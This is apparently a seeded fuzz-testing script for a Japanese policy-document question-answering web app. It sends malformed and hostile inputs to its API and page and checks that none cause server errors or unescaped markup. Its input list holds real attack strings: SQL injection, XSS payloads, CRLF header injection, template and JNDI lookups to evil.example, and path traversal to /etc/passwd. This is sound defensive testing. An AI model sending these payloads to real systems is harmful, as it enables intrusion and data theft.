"""Hostile questions, made from a seed, sent to every address of the API and to the page.

    python tests/hostile.py 10000 [SEED]

None may give a 5xx, and nothing in a page or in Markdown may be markup that is not ours.
"""

import json
import random
import re
import sys
import tempfile
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

from fastapi.testclient import TestClient
from lxml import html
from markdown_it import MarkdownIt

from api_clients import api_client
from fakes import FakeSource
from policyqa import indexing

JUTEN = Path(__file__).parent.parent / "corpus" / "juten-shisaku.txt"
SEED = 20240401
MEGABYTE = 2**20
_ADDRESS = 4000
"""Bytes of a question that are sent in an address."""
_JSON = {"content-type": "application/json"}
ASK, MORE, ARRIVE = (0, slice(3)), (1, slice(1)), (3, slice(8, 11))
"""The page's events that take what a user gives: their places among those that `ui` makes, and
which of what they give is HTML (the others are values of fields)."""

_PIECES = (
    "スマートシティの目標は何ですか",
    "第九千九百九十九条第二項第三号",
    "第" + "九" * 300 + "条",
    "p.99999999999999999999",
    "行政手続法第一条から第九十九条まで",
    "令和99年13月45日",
    "「」『』（）［］｛｝",
    "１２３４５６７８９０ｱｲｳｴｵ㌔㍻㈱①Ⅷ",
    "か\u3099き\u309a\u0301\u0302\u0303" * 5,
    "👨‍👩‍👧‍👦🇯🇵🏴\U000e0067\U000e007f😀",
    "\u202e逆さま\u202c\u2066右から\u2069שלום مرحبا",
    "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "\x00",
    "\x1b[31m\x07\x08\x7f\x85\u2028\u2029",
    "\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "\ud800",
    "\udfff\ud83d",
    "'; DROP TABLE chunks; --",
    '" OR 1=1 UNION SELECT * FROM documents --',
    "%27%20OR%20%271%27=%271",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)><iframe src=javascript:alert(1)>",
    "</textarea></section><style>*{display:none}</style>",
    "&lt;script&gt;&#60;b&#62;&amp;lt;",
    "[link](javascript:alert(1)) ![i](http://evil.example/x) <http://evil.example>",
    "```\n# heading\n- item\n1. item\n> quote\n***\n| a | b |\n|---|---|\n",
    "$\\require{html}\\href{javascript:alert(1)}{x}$ $$x$$ \\(x\\)",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini%00.png",
    "file:///etc/passwd",
    "/proc/self/environ\x00.txt",
    "%s%s%n%x {0} {} %(name)s",
    "(a+)+$ ((((((((( [[[[ ^.*.*.*.*$ \\",
    'AND OR NOT NEAR * ? ~ ^ : +- "unbalanced',
    "null undefined NaN Infinity true",
    " \t\u3000\n",
    "𠮷野家𩸽𠀋龘",
    "ﷺ" * 20,
)
_RAW = (
    b"",
    b"{",
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b"null",
    b'"question"',
    b'{"question": NaN}',
    b'{"question": 1e999999}',
    b'{"question": "\\ud800\\udc00\\ud800"}',
    b'{"question": "a", "question": ["b"]}',
    b'{"question": "a", "__proto__": {"top_k": 1}}',
    b'{"inputs": {"question": {"$ne": null}}}',
    b'{"question": ' + b"9" * 5000 + b"}",
    b"[" * 50_000,
    b'{"question":' * 5_000,
    b"\x00" * 1000,
    b"question=a&top_k=1",
)
_ELEMENTS = frozenset(
    re.findall(
        r"\w+",
        "a abbr blockquote br button cite dd details div dl dt em figcaption figure form h1 h2 h3 "
        "header input label li mark ol p section span strong summary ul",
    )
)
"""The elements that results are made of."""
_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_TOKENS = re.compile(
    r"(?:heading|paragraph|blockquote|ordered_list|list_item|strong)_(?:open|close)"
    r"|inline|text|softbreak"
)


def values(seed: int) -> Iterator[Any]:
    """Questions without end: texts, and now and then what is no text at all."""
    chance = random.Random(seed)
    while True:
        yield chance.choices((_text, _noise, _long, _wrong), (70, 20, 4, 6))[0](chance)


def _text(chance: random.Random) -> str:
    return chance.choice(("", " ", "\n")).join(chance.choices(_PIECES, k=chance.randint(1, 4)))


def _noise(chance: random.Random) -> str:
    """Characters from anywhere in Unicode, halves of pairs among them."""
    blocks = ((0, 0x9F), (0x20, 0x7E), (0x300, 0x36F), (0x590, 0x6FF), (0x2000, 0x206F))
    blocks += ((0x3040, 0x30FF), (0x4E00, 0x9FFF), (0xD800, 0xDFFF), (0xFE00, 0xFFFF))
    blocks += ((0x1F300, 0x1FAFF), (0xE0000, 0xE007F), (0x10FF00, 0x10FFFF))
    picked = (chance.randint(*chance.choice(blocks)) for _ in range(chance.randint(1, 60)))
    return "".join(map(chr, picked))


def _long(chance: random.Random) -> str:
    """Around the limit, and up to a megabyte."""
    length = chance.choice((999, 1000, 1001, 20_000, 70_000, MEGABYTE))
    piece = chance.choice(_PIECES)
    return (piece * (length // len(piece) + 1))[:length]


def _wrong(chance: random.Random) -> Any:
    nested: Any = "a"
    for _ in range(chance.choice((1, 5, 400))):
        nested = [nested] if chance.random() < 0.5 else {chance.choice(_PIECES): nested}
    return chance.choice((None, True, 0, -1, 1.5, 10**400, [], {}, [None], nested))


class Attack:
    """Sends hostile values to a client of the application; counts what is answered."""

    def __init__(self, client: TestClient) -> None:
        self._client = client
        self.statuses: Counter[int] = Counter()
        self.shown = 0
        """Results of the page that were looked through."""

    def run(self, count: int, seed: int = SEED) -> None:
        """Send `count` values. Raises AssertionError with the seed and number of the value that
        does harm."""
        for number, value in zip(range(count), values(seed), strict=False):
            try:
                self._send(value, random.Random(f"{seed}-{number}"))
            except Exception as error:
                what = f"value {number} of seed {seed}: {value!r:.200}"
                raise AssertionError(what) from error

    def _send(self, value: Any, chance: random.Random) -> None:
        for route in ("search", "ask"):
            self._post(f"/api/v1/{route}", {"question": value})
        filters = {"document": [value], "publisher": [value], "kind": [value]}
        days = {"from": value, "to": value, "as_of": value}
        self._post("/api/v1/search", {"question": "都市", **chance.choice((filters, days))})
        self._post("/api/v1/search", {"question": "都市", "top_k": value, "x": value})
        self._post("/api/v1/feedback", {"question": value, "verdict": "up", "reason": value})
        self._post("/api/v1/feedback", {"question": "a", "verdict": value, "passage": value})
        told = self._post("/genai/invoke", {"inputs": {"question": value, "document": value}})
        if told.status_code == 200:
            check_markdown(told.json()["outputs"])
        self._raw(chance)
        text = value if isinstance(value, str) else json.dumps(value)
        given = quote(text.encode("utf-8", "surrogatepass")[:_ADDRESS], safe="")
        self._addresses(given, chance)
        self._parts(value, given, chance)
        self._page(value, given, chance)

    def _post(self, address: str, body: Any) -> Any:
        return self._checked(self._client.post(address, content=json.dumps(body), headers=_JSON))

    def _raw(self, chance: random.Random) -> None:
        route = chance.choice(
            ("/api/v1/search", "/api/v1/ask", "/api/v1/feedback", "/genai/invoke")
        )
        body = chance.choice(_RAW)
        self._checked(self._client.post(route, content=body, headers=_JSON))

    def _addresses(self, given: str, chance: random.Random) -> None:
        part = chance.choice(("document", "publisher", "kind", "from", "to", "as_of", "top_k", "x"))
        for address in (
            f"search?q={given}",
            f"ask?q={given}&{part}={given}",
            f"documents?limit={given}&offset={given}",
            f"documents/{given}",
            f"passages/{given}",
            f"pages/{given}/{given}.png",
            f"version?{given}",
            f"health/ready/{given}",
            given,
        ):
            self._checked(self._client.get(f"/api/v1/{address}"))

    def _counted(self, answer: Any) -> Any:
        self.statuses[answer.status_code] += 1
        assert answer.status_code < 500, answer.text
        return answer

    def _checked(self, answer: Any) -> Any:
        """Of the API, whose every answer is JSON."""
        self._counted(answer)
        if answer.content and answer.headers["content-type"] != "image/png":
            answer.json()
        return answer

    def _parts(self, value: Any, given: str, chance: random.Random) -> None:
        """What the page's script asks for and sends, and the originals."""
        part = chance.choice(("passage", "section", "document", "file"))
        address = chance.choice(
            (
                f"part/context/{given}",
                f"part/outline/{given}",
                f"source/{part}/{given}",
                f"source/image/{given}/{given}.png",
                f"?q={given}&document={given}&passage={given}",
            )
        )
        self._counted(self._client.get(f"/{address}"))
        route, sent = chance.choice(
            (
                ("feedback", {"question": value, "verdict": "down", "reason": value}),
                ("feedback", {"question": "都市", "verdict": "up", "passage": value}),
                ("case", {"question": value}),
                ("case", {"question": "都市", "passage": value}),
            )
        )
        body, headers = json.dumps(sent), {**_JSON, "sec-fetch-site": "same-origin"}
        self._counted(self._client.post(f"/part/{route}", content=body, headers=headers))

    def _page(self, value: Any, given: str, chance: random.Random) -> None:
        """The page's own events."""
        nothing: list[Any] = [None] * 6
        filters = [[value], [value], [value], value, value, value]
        arriving = f"?q={given}&from={given}&kind={given}&passage={given}"
        event, data, address = chance.choice(
            (
                (ASK, [value, *nothing], ""),
                (ASK, [value, *filters], ""),
                (ASK, ["都市", *filters], ""),
                (ARRIVE, [], arriving),
                (MORE, [f"?q=都市&document={given}", 5], ""),
            )
        )
        self._event(event, data, chance, address)

    def _event(
        self, event: tuple[int, slice], data: list[Any], chance: random.Random, address: str = ""
    ) -> None:
        session = uuid.UUID(int=chance.getrandbits(128)).hex
        number, shown = event
        body = {"fn_index": number, "data": data, "session_hash": session, "event_data": None}
        joined = self._counted(
            self._client.post(
                f"/gradio_api/queue/join{address}", content=json.dumps(body), headers=_JSON
            )
        )
        if joined.status_code != 200:
            return
        stream = self._client.get("/gradio_api/queue/data", params={"session_hash": session})
        lines = (line[6:] for line in stream.text.split("\n") if line.startswith("data: "))
        done = next(e for e in map(json.loads, lines) if e["msg"] == "process_completed")
        assert done["success"], done
        for part in done["output"]["data"][shown]:
            if isinstance(part, str) and part:
                check_html(part)
                self.shown += 1


def check_html(page: str) -> None:
    """Only the elements that results are made of, no handlers, links that stay here."""
    for element in html.fragment_fromstring(page, create_parent="div").iter():
        assert element.tag in _ELEMENTS, html.tostring(element)[:200]
        for name, value in element.attrib.items():
            assert not name.startswith("on"), (name, value)
            assert name != "href" or value.startswith(("source/", "?", "#")), value
    assert "\n" not in page


def check_markdown(text: str) -> None:
    """Only the blocks that an answer is made of."""
    for block in _MARKDOWN.parse(text):
        for token in (block, *(block.children or ())):
            assert _TOKENS.fullmatch(token.type), (token.type, token.content)


def build(folder: Path) -> Path:
    """A library whose documents are hostile, too, beside the user's document."""
    files = folder / "files"
    files.mkdir()
    (files / JUTEN.name).write_bytes(JUTEN.read_bytes())
    kept = [piece for piece in _PIECES if piece.isprintable() or "\n" in piece]
    written = "\n".join(f"{number}．{piece}\n{piece}" for number, piece in enumerate(kept, 1))
    (files / "hostile.txt").write_text(f"<b>計画</b>\n\n{written}\n", "utf-8", "replace")
    indexing.build([files], folder / "index", FakeSource())
    return folder / "index"


def main(count: int, seed: int, say: Callable[[str], None] = print) -> None:
    began = time.monotonic()
    with tempfile.TemporaryDirectory() as folder, api_client(build(Path(folder))) as client:
        attack = Attack(client)
        attack.run(count, seed)
    took = time.monotonic() - began
    requests = ", ".join(f"{n:,} {status}" for status, n in sorted(attack.statuses.items()))
    say(
        f"{count:,} hostile questions (seed {seed}), {attack.statuses.total():,} requests in "
        f"{took:.0f} s: {requests}; {attack.shown:,} parts of pages looked through; "
        "no 5xx, nothing unescaped"
    )


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]) if sys.argv[2:] else SEED)
